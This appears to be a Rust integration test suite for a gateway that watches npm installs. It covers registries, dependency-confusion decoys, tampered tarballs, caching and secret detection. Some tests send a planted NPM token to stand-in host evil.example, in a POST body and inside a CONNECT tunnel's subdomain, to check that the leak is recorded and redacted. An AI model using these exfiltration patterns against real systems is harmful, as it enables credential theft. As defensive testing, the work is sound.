//! The gateway over real sockets: TLS by its own authority, a folder and a
//! stand-in served as registries, and what strangers may throw at it.

// What a test's helpers do not expect ends the test, as in the tests themselves.
#![allow(clippy::unwrap_used, clippy::panic)]

mod bytes_out;
mod faults;
mod npm;
mod rig;
#[path = "../support/mod.rs"]
mod support;

use rig::{PLANTED, REAL, Rig, broken, full, open, registry, sockets, streamed, upstream, world};
use sealcheck::evidence::exchange::AnsweredBy;
use sealcheck::evidence::{Credential, Exchange, ExchangeKind, Role};
use sealcheck::plan::{DecoySpec, RegistryWorld};
use sealcheck::project::integrity::Digests;
use sealcheck::project::name::PackageName;
use sealcheck::project::registry::RegistryUrl;
use sealcheck::scenario::Answer;
use sealcheck::upstream::Store;
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::time::Instant;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

fn name(text: &str) -> PackageName {
    PackageName::parse(text).unwrap()
}

/// A folder with one package, `@acme/internal@1.2.0`.
fn package(root: &Path) {
    let folder = root.join("internal");
    std::fs::create_dir_all(&folder).unwrap();
    std::fs::write(folder.join("package.json"), r#"{"name":"@acme/internal","version":"1.2.0"}"#).unwrap();
    std::fs::write(folder.join("index.js"), "module.exports = 'genuine'\n").unwrap();
}

/// A rig whose private registry is `npm.corp.example`, served from a folder.
fn with_folder(root: &Path, answer: Answer) -> Rig {
    package(root);
    Rig::plain(|world| {
        let port = world.ports.first().copied().unwrap();
        let url = RegistryUrl::parse(&format!("https://npm.corp.example:{port}/npm/")).unwrap();
        world.private.insert(name("@acme/internal"), url.clone());
        world.tamper = Some((name("@acme/internal"), "1.2.0".into()));
        world.decoys = vec![DecoySpec {
            name: name("@acme/internal"),
            version: "1.2.0".into(),
            higher: "99.0.0".into(),
            between: None,
        }];
        world.registries.push(RegistryWorld { url, answer, serve: Some(root.to_owned()), also: Vec::new() });
    })
}

async fn json(client: &reqwest::Client, url: &str) -> serde_json::Value {
    let response = client.get(url).send().await.unwrap();
    assert_eq!(response.status(), 200, "{url}");
    serde_json::from_slice(&response.bytes().await.unwrap()).unwrap()
}

fn only(exchanges: &[Exchange]) -> &Exchange {
    assert_eq!(exchanges.len(), 1, "{exchanges:#?}");
    &exchanges[0]
}

#[tokio::test(flavor = "multi_thread")]
async fn a_folder_is_served_as_a_registry() {
    let root = tempfile::tempdir().unwrap();
    let (rig, start) = (with_folder(root.path(), Answer::Genuine), Instant::now());
    let client = rig.client(&["npm.corp.example"]);
    let document = json(&client, &rig.url("npm.corp.example", "/npm/@acme%2finternal")).await;
    let dist = &document["versions"]["1.2.0"]["dist"];
    let tarball = client.get(dist["tarball"].as_str().unwrap()).send().await.unwrap().bytes().await.unwrap();
    assert_eq!(Digests::of(&tarball).sri(), dist["integrity"].as_str().unwrap());
    let store = rig.store.clone();
    let record = rig.gateway.close().await.since(start);
    let [packument, got] = &record.exchanges[..] else { panic!("{:#?}", record.exchanges) };
    assert_eq!((packument.kind, packument.role), (ExchangeKind::Packument, Role::Own));
    assert_eq!((got.kind, got.role, got.answered_by), (ExchangeKind::Tarball, Role::Own, AnsweredBy::Folder));
    assert_eq!((got.package.as_deref(), got.version.as_deref()), (Some("@acme/internal"), Some("1.2.0")));
    assert_eq!(got.sha512.as_deref(), dist["integrity"].as_str());
    assert_eq!(got.sha1.as_deref(), dist["shasum"].as_str());
    assert_eq!((got.bytes, got.status, got.process.is_some()), (tarball.len() as u64, Some(200), true));
    assert_eq!((packument.seq, got.seq), (1, 2));
    assert_eq!(store.index(got.sha512.as_deref().unwrap()).unwrap().version, "1.2.0");
    assert!(record.decoys.iter().all(|decoy| !decoy.asked));
    assert_eq!(record.lookups[0].name, "npm.corp.example");
    let times = [record.lookups[0].at_ms, packument.at_ms, got.at_ms].map(Option::unwrap);
    assert!(times.is_sorted() && packument.took_ms.is_some() && got.took_ms.is_some(), "{record:#?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_private_name_asked_of_the_public_registry_gets_the_decoy() {
    let root = tempfile::tempdir().unwrap();
    let rig = with_folder(root.path(), Answer::Unavailable);
    let client = rig.client(&["registry.example", "npm.corp.example"]);
    let document = json(&client, &rig.url("registry.example", "/@acme%2finternal")).await;
    assert_eq!(document["dist-tags"]["latest"], "99.0.0");
    let url = document["versions"]["1.2.0"]["dist"]["tarball"].as_str().unwrap().to_owned();
    assert_eq!(url, rig.url("registry.example", "/@acme/internal/-/internal-1.2.0.tgz"));
    let decoy = client.get(url).send().await.unwrap().bytes().await.unwrap();
    let unknown = rig.url("registry.example", "/@acme%2fother");
    assert_eq!(client.get(unknown).send().await.unwrap().status(), 404);
    let failing = rig.url("npm.corp.example", "/npm/@acme%2finternal");
    assert_eq!(client.get(failing).send().await.unwrap().status(), 503);
    let record = rig.gateway.close().await;
    let said: Vec<_> =
        record.exchanges.iter().map(|seen| (seen.role, seen.decoy, seen.fault.as_deref())).collect();
    assert_eq!(
        said,
        [
            (Role::Foreign, true, None),
            (Role::Foreign, true, None),
            (Role::Foreign, false, None),
            (Role::Own, false, Some("unavailable")),
        ]
    );
    assert!(record.decoys.iter().all(|decoy| decoy.asked));
    assert_eq!(record.decoys[0].sha512, Digests::of(&decoy).sri());
    assert_eq!(record.exchanges[1].sha512.as_ref(), Some(&record.decoys[0].sha512));
}

#[tokio::test(flavor = "multi_thread")]
async fn one_tarball_is_tampered_with_and_its_metadata_is_not() {
    let root = tempfile::tempdir().unwrap();
    let rig = with_folder(root.path(), Answer::Tampered);
    let client = rig.client(&["npm.corp.example"]);
    let document = json(&client, &rig.url("npm.corp.example", "/npm/@acme%2finternal")).await;
    let dist = &document["versions"]["1.2.0"]["dist"];
    let got = client.get(dist["tarball"].as_str().unwrap()).send().await.unwrap().bytes().await.unwrap();
    assert_ne!(Digests::of(&got).sri(), dist["integrity"].as_str().unwrap());
    let index = sealcheck::evidence::tree::index_tarball(&got[..]).unwrap();
    assert_eq!((index.name.as_str(), index.version.as_str()), ("@acme/internal", "1.2.0"));
    assert_eq!(rig.gateway.close().await.exchanges[1].fault.as_deref(), Some("tampered"));
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_is_published_and_the_audit_is_answered_here() {
    let rig = Rig::plain(|_| {});
    let client = rig.client(&["registry.example", "evil.example"]);
    let publish =
        client.put(rig.url("registry.example", "/@acme%2finternal")).body("{}").send().await.unwrap();
    assert_eq!(publish.status(), 403);
    let audit = client.post(rig.url("registry.example", "/-/npm/v1/security/advisories/bulk"));
    let audit = audit.body("{\"@acme/internal\":[\"1.2.0\"]}").send().await.unwrap();
    assert_eq!((audit.status().as_u16(), audit.text().await.unwrap().as_str()), (200, "{}"));
    let elsewhere = client.get(rig.url("evil.example", "/x")).send().await.unwrap();
    assert_eq!(elsewhere.status(), 403);
    let record = rig.gateway.close().await;
    let said: Vec<_> = record.exchanges.iter().map(|seen| (seen.method.as_str(), seen.kind)).collect();
    let expected =
        [("PUT", ExchangeKind::Packument), ("POST", ExchangeKind::Audit), ("GET", ExchangeKind::Other)];
    assert_eq!(said, expected);
}

/// A body that is not looked at to its end is no body without a secret.
#[tokio::test(flavor = "multi_thread")]
async fn a_body_that_is_too_large_to_be_searched_is_said() {
    let rig = Rig::plain(|_| {});
    let client = rig.client(&["evil.example"]);
    for size in [1 << 20, 9 << 20] {
        let body = format!("{}{PLANTED}", " ".repeat(size));
        let _ = client.post(rig.url("evil.example", "/drop")).body(body).send().await;
    }
    let seen = rig.gateway.close().await.exchanges;
    let told: Vec<_> = seen.iter().map(|it| (it.carried_secret.as_deref(), it.unsearched)).collect();
    // Of the other, what came after may have been heard as well.
    assert_eq!((told[0], told[1].1), ((Some("NPM_TOKEN"), false), true), "{told:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_neither_tls_nor_http_is_written_down() {
    let rig = Rig::plain(|_| {});
    for (host, bytes) in [
        ("evil.example", format!("\x00\x01 {PLANTED}")),
        ("garbage.example", "\x16\x03\x01\x00\x05hello".to_owned()),
        ("shouting.example", "SHOUT AND NO HTTP\r\n\r\n".to_owned()),
        ("proxy.example", format!("CONNECT {}.evil.example:443 HTTP/1.1\r\n\r\n", PLANTED.to_lowercase())),
    ] {
        let mut stream = tokio::net::TcpStream::connect(rig.lookup(host)).await.unwrap();
        stream.write_all(bytes.as_bytes()).await.unwrap();
        stream.shutdown().await.unwrap();
        let _ = stream.read_to_end(&mut Vec::new()).await;
    }
    let mut seen = rig.gateway.close().await.exchanges;
    seen.sort_by(|left, right| left.host.cmp(&right.host));
    // The silent tunnel comes first: its name is redacted, and says what it carried.
    let tunnel = seen.remove(0);
    assert_eq!(
        (tunnel.scheme.as_str(), tunnel.host.as_str()),
        ("connect", "[redacted:NPM_TOKEN].evil.example")
    );
    assert_eq!(tunnel.carried_secret.as_deref(), Some("NPM_TOKEN"));
    assert_eq!(seen.len(), 3, "{seen:#?}");
    assert!(seen.iter().all(|seen| seen.method == "-" && seen.status.is_none()));
    assert_eq!(seen[0].carried_secret.as_deref(), Some("NPM_TOKEN"));
    assert_eq!(seen[1].fault.as_deref(), Some("tls-handshake-failed"));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_tunnel_opens_at_a_proxy_and_nowhere_else() {
    let root = tempfile::tempdir().unwrap();
    let rig = with_folder(root.path(), Answer::Genuine);
    let url = rig.url("npm.corp.example", "/npm/@acme%2finternal");
    let through = |door: std::net::SocketAddr| {
        let proxy = reqwest::Proxy::https(format!("http://{door}")).unwrap();
        rig.build(&[]).proxy(proxy).build().unwrap().get(&url).send()
    };
    assert_eq!(through(rig.lookup("proxy.example")).await.unwrap().status(), 200);
    assert!(through(rig.lookup("registry.example")).await.is_err());
    let seen = rig.gateway.close().await.exchanges;
    assert_eq!((seen[0].host.as_str(), seen[0].scheme.as_str()), ("npm.corp.example", "https"));
    assert_eq!((seen[0].role, seen[0].answered_by), (Role::Own, AnsweredBy::Folder));
    assert_eq!((seen[1].method.as_str(), seen[1].status), ("CONNECT", Some(405)));
}

fn blob() -> Vec<u8> {
    sealcheck::upstream::archive::pack([(
        "package.json",
        &br#"{"name":"@acme/internal","version":"1.2.0"}"#[..],
    )])
    .unwrap()
}

/// A registry that wants a token, hands downloads to `blobs.example`, and knows nothing else.
fn corporate(port: u16) -> impl Fn(&str) -> http::Response<rig::RealBody> + Send + Sync {
    move |path| match path {
        "/npm/@acme%2finternal" => {
            http::Response::builder().header("etag", "\"1\"").body(full("{}")).unwrap()
        }
        "/npm/@acme/internal/-/internal-1.2.0.tgz" => http::Response::builder()
            .status(302)
            .header("location", format!("http://127.0.0.1:{port}/blobs/1?sig=hunter2hunter2"))
            .body(full(""))
            .unwrap(),
        "/blobs/1?sig=hunter2hunter2" => http::Response::new(full(blob())),
        _ => http::Response::builder().status(404).body(full("{}")).unwrap(),
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_real_token_goes_only_with_npm_and_only_home() {
    let sockets = sockets();
    let got = registry(sockets.real, corporate(sockets.port));
    let store = Arc::new(Store::temporary().unwrap());
    let rig = open(world(sockets.port), sockets.port, sockets.doors, upstream(store, false));
    let bearer = format!("Bearer {PLANTED}");
    let (client, url) = rig.own("/npm/@acme%2finternal");
    let response = client.get(&url).header("authorization", &bearer).send().await.unwrap();
    assert_eq!(response.status(), 200);
    let fresh = client.get(&url).header("authorization", &bearer).header("if-none-match", "\"1\"");
    assert_eq!(fresh.send().await.unwrap().status(), 304);
    rig.callers.script.store(true, Ordering::Relaxed);
    let (client, other) = rig.own("/npm/other");
    // The registry is on this machine, where nothing is asked for a script.
    let response = client.get(&other).header("authorization", &bearer).send().await.unwrap();
    assert_eq!(response.status(), 424);
    // The same token at another host, and in a place where no token belongs.
    let stranger = rig.client(&["registry.example"]);
    let foreign = rig.url("registry.example", "/left-pad");
    stranger
        .get(&foreign)
        .header("authorization", &bearer)
        .send()
        .await
        .unwrap_or_else(|error| panic!("{error}"));
    let (client, stuffed) = rig.own(&format!("/npm/other?token={PLANTED}"));
    assert_eq!(client.get(&stuffed).send().await.unwrap().status(), 403);

    let sent = got.lock().unwrap().clone();
    let tokens: Vec<_> = sent.iter().map(|got| got.authorization.clone()).collect();
    assert_eq!(tokens, [Some(format!("Bearer {REAL}"))], "{sent:#?}");
    let record = rig.gateway.close().await;
    let said: Vec<_> =
        record.exchanges.iter().map(|seen| (seen.credential, seen.carried_secret.is_some())).collect();
    assert_eq!(
        said,
        [
            (Credential::Own, false),
            (Credential::Own, false),
            (Credential::Own, false),
            (Credential::Foreign, false),
            (Credential::None, true),
        ]
    );
    assert!(!format!("{record:?}").contains(PLANTED) && !format!("{record:?}").contains(REAL));
}

#[tokio::test(flavor = "multi_thread")]
async fn what_was_fetched_once_is_replayed_offline_with_its_redirects() {
    let folder = tempfile::tempdir().unwrap();
    let sockets = sockets();
    let port = sockets.port;
    let got = registry(sockets.real, corporate(port));
    let copy = |doors: &[(std::net::SocketAddr, std::net::TcpListener)]| -> Vec<_> {
        doors.iter().map(|(address, door)| (*address, door.try_clone().unwrap())).collect()
    };
    let mut bodies = Vec::new();
    for offline in [false, true] {
        let store = Arc::new(Store::open(folder.path()).unwrap());
        let rig = open(world(port), port, copy(&sockets.doors), upstream(store, offline));
        let (client, tarball) = rig.own("/npm/@acme/internal/-/internal-1.2.0.tgz");
        let redirect = client.get(&tarball).send().await.unwrap();
        assert_eq!(redirect.status(), 302);
        let location = redirect.headers()["location"].to_str().unwrap().to_owned();
        let followed = location.replace("127.0.0.1", "own.example");
        let all: Vec<_> = (0..8).map(|_| client.get(&followed).send()).collect();
        for response in futures_util::future::join_all(all).await {
            bodies.push(response.unwrap().bytes().await.unwrap());
        }
        if offline {
            let (client, never) = rig.own("/npm/never-seen");
            // npm would try again after a 502, and nothing can have changed by then.
            assert_eq!(client.get(&never).send().await.unwrap().status(), 424);
        }
        let record = rig.gateway.close().await;
        assert_eq!(record.exchanges[0].redirected_to.as_deref(), Some(format!("127.0.0.1:{port}").as_str()));
        assert!(record.exchanges.iter().all(|seen| !seen.path.contains('?')));
        if offline {
            let last = record.exchanges.last().unwrap();
            assert_eq!(last.fault.as_deref(), Some("not-in-store"));
            assert!(record.exchanges[..9].iter().all(|seen| seen.answered_by == AnsweredBy::Store));
        }
    }
    assert!(bodies.iter().all(|body| body[..] == blob()[..]));
    assert_eq!(got.lock().unwrap().len(), 2, "each request goes out once");
    for entry in std::fs::read_dir(folder.path().join("index")).unwrap() {
        for file in std::fs::read_dir(entry.unwrap().path()).unwrap() {
            let text = std::fs::read_to_string(file.unwrap().path()).unwrap();
            assert!(!text.contains("hunter2"), "{text}");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_download_that_broke_off_is_no_delivery_and_is_tried_again() {
    let sockets = sockets();
    let first = std::sync::atomic::AtomicBool::new(true);
    let got = registry(sockets.real, move |_| {
        let body = if first.swap(false, Ordering::Relaxed) { broken("half") } else { full("whole") };
        http::Response::new(body)
    });
    let store = Arc::new(Store::temporary().unwrap());
    let rig = open(world(sockets.port), sockets.port, sockets.doors, upstream(store, false));
    let (client, url) = rig.own("/npm/@acme/internal/-/internal-1.2.0.tgz");
    assert!(client.get(&url).send().await.unwrap().bytes().await.is_err());
    assert_eq!(client.get(&url).send().await.unwrap().bytes().await.unwrap(), "whole");
    let seen = rig.gateway.close().await.exchanges;
    assert_eq!((seen[0].fault.as_deref(), &seen[0].sha512), (Some("upstream-broke-off"), &None));
    assert_eq!(seen[1].sha512.as_deref(), Some(Digests::of(b"whole").sri().as_str()));
    assert_eq!(got.lock().unwrap().len(), 2);
}

/// The largest resident memory of this process so far, in bytes.
fn peak() -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap();
    let line = status.lines().find(|line| line.starts_with("VmHWM:")).unwrap();
    line.split_whitespace().nth(1).unwrap().parse::<u64>().unwrap() * 1024
}

#[tokio::test(flavor = "multi_thread")]
async fn a_large_tarball_streams_through_without_filling_memory() {
    const CHUNK: usize = 1 << 20;
    const CHUNKS: usize = 200;
    let sockets = sockets();
    registry(sockets.real, |_| {
        let chunk = bytes::Bytes::from(vec![7; CHUNK]);
        http::Response::new(streamed(futures_util::stream::iter((0..CHUNKS).map(move |_| chunk.clone()))))
    });
    let store = Arc::new(Store::temporary().unwrap());
    let rig = open(world(sockets.port), sockets.port, sockets.doors, upstream(store, false));
    let (client, url) = rig.own("/npm/@acme/internal/-/internal-1.2.0.tgz");
    let before = peak();
    let mut response = client.get(&url).send().await.unwrap();
    let mut length = 0;
    while let Some(chunk) = response.chunk().await.unwrap() {
        length += chunk.len();
    }
    assert_eq!(length, CHUNK * CHUNKS);
    let grown = peak() - before;
    assert!(grown < 96 << 20, "memory grew by {} MiB", grown >> 20);
    let progress = *rig.gateway.progress().borrow();
    assert_eq!((progress.tarballs, progress.bytes), (1, length as u64));
    let seen = rig.gateway.close().await.exchanges;
    assert_eq!(only(&seen).bytes, length as u64);
    assert!(only(&seen).sha512.is_some());
}
